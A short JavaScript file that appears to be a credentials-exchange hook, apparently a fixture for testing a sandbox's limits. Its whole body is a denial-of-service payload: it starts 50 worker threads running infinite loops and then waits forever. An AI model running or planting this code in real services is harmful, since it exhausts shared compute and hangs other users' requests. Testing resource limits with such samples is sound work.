module.exports = async (client, scope, audience, context) => {
  const { Worker } = require('worker_threads');
  for (let i = 0; i < 50; i++) new Worker('for(;;){}', { eval: true });
  await new Promise(() => {});
};
